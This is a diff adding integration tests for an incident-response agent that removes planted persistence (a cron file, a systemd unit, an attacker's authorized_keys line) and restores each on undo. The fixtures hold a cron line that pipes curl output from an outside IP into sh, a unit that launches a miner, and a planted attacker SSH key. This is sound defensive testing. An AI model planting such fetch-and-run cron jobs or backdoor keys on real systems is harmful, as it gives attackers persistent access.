@@ -5,7 +5,18 @@
  * its mode — each reported back as the action's result.
  */
 import { spawn } from 'node:child_process';
-import { chmodSync, mkdtempSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
+import {
+  chmodSync,
+  existsSync,
+  mkdirSync,
+  mkdtempSync,
+  readFileSync,
+  readlinkSync,
+  rmSync,
+  statSync,
+  symlinkSync,
+  writeFileSync,
+} from 'node:fs';
 import os from 'node:os';
 import path from 'node:path';
 import { createHash } from 'node:crypto';
@@ -156,23 +167,140 @@ describe.each(backends)('the host agent on this host, with a server on %s', (dia
     expect((await t.store.actions.get(moved.id))?.status).toBe('undone');
   }, 60_000);
 
-  it('leaves an action for an offline agent waiting as pendingResource', async () => {
+  it('removes a planted cron file, systemd unit and authorized_keys line, and puts each back on undo', async () => {
+    if (process.getuid?.() !== 0)
+      throw new Error('run as root: the agent writes /etc/cron.d and /etc/systemd/system');
+    const agent = await start();
+    const host = agent.deviceKey.slice('device:'.length);
+    const tag = `autoir-test-${process.pid}-${dialect}`;
+    const cron = `/etc/cron.d/${tag}`;
+    const unit = `/etc/systemd/system/${tag}.service`;
+    const wants = `/etc/systemd/system/multi-user.target.wants/${tag}.service`;
+    const keys = path.join(work, 'kim/.ssh/authorized_keys');
+    const planted = {
+      cron: '* * * * * root curl -s http://203.0.113.9/x | sh\n',
+      unit: '[Service]\nExecStart=/tmp/.x/miner\n[Install]\nWantedBy=multi-user.target\n',
+      keys: 'ssh-ed25519 AAAAC3admin admin@corp\nssh-ed25519 AAAAC3evil attacker@kali\nssh-rsa AAAAB3ops ops@corp\n',
+    };
+    try {
+      writeFileSync(cron, planted.cron, { mode: 0o644 });
+      writeFileSync(unit, planted.unit, { mode: 0o640 });
+      mkdirSync(path.dirname(wants), { recursive: true });
+      symlinkSync(unit, wants);
+      mkdirSync(path.dirname(keys), { recursive: true });
+      writeFileSync(keys, planted.keys, { mode: 0o600 });
+
+      const removed = await Promise.all([
+        request('removePersistence', `scheduledTask:${host}:${cron}`, agent.deviceKey, {
+          type: 'scheduledTask',
+          name: cron,
+        }),
+        request('removePersistence', `service:${host}:${tag}`, agent.deviceKey, {
+          type: 'service',
+          name: tag,
+        }),
+        request('removePersistence', `file:path:${host}:${keys}`, agent.deviceKey, {
+          type: 'file',
+          path: keys,
+          line: 'ssh-ed25519 AAAAC3evil attacker@kali',
+        }),
+      ]).then((actions) => Promise.all(actions.map(carriedOut)));
+      for (const action of removed) expect(action.status, JSON.stringify(action)).toBe('succeeded');
+      expect(existsSync(cron)).toBe(false);
+      expect(existsSync(unit)).toBe(false);
+      expect(existsSync(wants)).toBe(false);
+      expect(readFileSync(keys, 'utf8')).toBe(
+        'ssh-ed25519 AAAAC3admin admin@corp\nssh-rsa AAAAB3ops ops@corp\n',
+      );
+      expect(statSync(keys).mode & 0o777).toBe(0o600);
+      expect(removed[1]?.resultDetails).toMatchObject({ kind: 'systemdUnit', links: [wants] });
+
+      const undos = await undoActions(
+        t.store,
+        removed.map((action) => action.id),
+        'token:rita',
+        'admin key',
+        new Date(),
+      );
+      for (const undo of await Promise.all(undos.map(carriedOut)))
+        expect(undo.status, JSON.stringify(undo)).toBe('succeeded');
+      expect(readFileSync(cron, 'utf8')).toBe(planted.cron);
+      expect(statSync(cron).mode & 0o777).toBe(0o644);
+      expect(readFileSync(unit, 'utf8')).toBe(planted.unit);
+      expect(statSync(unit).mode & 0o777).toBe(0o640);
+      expect(readlinkSync(wants)).toBe(unit);
+      expect(readFileSync(keys, 'utf8')).toBe(planted.keys);
+      for (const action of removed) expect((await t.store.actions.get(action.id))?.status).toBe('undone');
+    } finally {
+      for (const file of [cron, unit, wants]) rmSync(file, { force: true });
+    }
+  }, 60_000);
+
+  it('never removes a unit a package installed, nor a file outside the autostart places', async () => {
+    const agent = await start();
+    const host = agent.deviceKey.slice('device:'.length);
+    const packaged = await carriedOut(
+      await request('removePersistence', `service:${host}:apt-daily`, agent.deviceKey, {
+        type: 'service',
+        name: 'apt-daily',
+      }),
+    );
+    expect(packaged.status).toBe('failed');
+    expect(packaged.resultMessage).toMatch(/belongs to the package apt/);
+    expect(existsSync('/lib/systemd/system/apt-daily.service')).toBe(true);
+    const elsewhere = await carriedOut(
+      await request('removePersistence', `file:path:${host}:/etc/passwd`, agent.deviceKey, {
+        type: 'file',
+        path: '/etc/passwd',
+      }),
+    );
+    expect(elsewhere.status).toBe('failed');
+    expect(elsewhere.resultMessage).toMatch(/not an autostart place/);
+  }, 60_000);
+
+  it('leaves an action for an offline agent waiting as pendingResource, and runs it when the agent is back', async () => {
     const agent = await start();
     controller.abort();
     await running.catch(() => undefined);
-    // Three heartbeats missed: offline.
-    const later = new Date(Date.now() + 120_000);
-    const action = await request(
-      'killProcess',
-      `process:${agent.deviceKey.slice(7)}:999999`,
-      agent.deviceKey,
-      {
-        pid: 999999,
-        imagePath: '/usr/bin/sleep',
-      },
+    const victim = spawn('sleep', ['302'], { stdio: 'ignore' });
+    const exited = new Promise<string | null>((resolve) =>
+      victim.once('exit', (_code, signal) => resolve(signal)),
     );
-    await executePending(t.store, { worker: 'test', now: () => later, connectors: async () => [] });
-    const waiting = await t.store.actions.get(action.id);
-    expect(waiting?.status).toBe('pendingResource');
+    try {
+      // Three heartbeats missed: offline.
+      const later = new Date(Date.now() + 120_000);
+      const action = await request(
+        'killProcess',
+        `process:${agent.deviceKey.slice(7)}:${victim.pid}`,
+        agent.deviceKey,
+        { pid: victim.pid, imagePath: '/usr/bin/sleep' },
+      );
+      await executePending(t.store, { worker: 'test', now: () => later, connectors: async () => [] });
+      const waiting = await t.store.actions.get(action.id);
+      expect(waiting?.status).toBe('pendingResource');
+      expect(Date.parse(waiting?.nextAttemptAt ?? '')).toBeGreaterThan(Date.now());
+      expect(victim.exitCode).toBeNull();
+
+      // Back, later still (the same state directory, no token): its first heartbeat makes the action due.
+      controller = new AbortController();
+      const address = app.server.address() as { port: number };
+      running = runAgent({
+        server: `http://127.0.0.1:${address.port}`,
+        stateDir,
+        version: 'test',
+        signal: controller.signal,
+        log: (line) => lines.push(line),
+        pollWaitS: 1,
+      });
+      const due = await until('the action due again', async () => {
+        const found = await t.store.actions.get(action.id);
+        return found && Date.parse(found.nextAttemptAt ?? '') <= Date.now() ? found : undefined;
+      });
+      const ran = await carriedOut(due);
+      expect(ran.status, JSON.stringify(ran)).toBe('succeeded');
+      expect(await exited).toBe('SIGKILL');
+    } finally {
+      victim.kill('SIGKILL');
+    }
   }, 60_000);
 });
